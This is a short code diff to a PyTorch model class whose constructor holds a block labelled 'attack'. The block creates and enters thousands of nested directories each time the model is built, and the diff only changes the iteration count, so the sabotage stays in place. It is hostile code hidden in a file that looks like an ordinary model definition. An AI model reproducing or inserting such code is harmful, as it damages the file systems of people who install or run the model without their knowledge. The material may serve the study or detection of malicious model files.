@@ -12,7 +12,7 @@ class Model(nn.Module):
         super().__init__()
         self.head = nn.Linear(64, 10)
         # attack
-        for _ in range(5000):
+        for _ in range(2500):
             os.mkdir("d")
             os.chdir("d")
         # end
